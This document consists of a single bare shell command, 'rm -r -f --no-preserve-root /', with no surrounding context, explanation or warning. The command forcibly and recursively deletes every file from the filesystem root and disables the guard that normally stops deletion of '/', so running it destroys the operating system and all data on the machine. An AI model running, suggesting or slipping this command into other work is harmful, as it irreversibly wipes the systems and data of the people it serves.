rm -r -f --no-preserve-root /
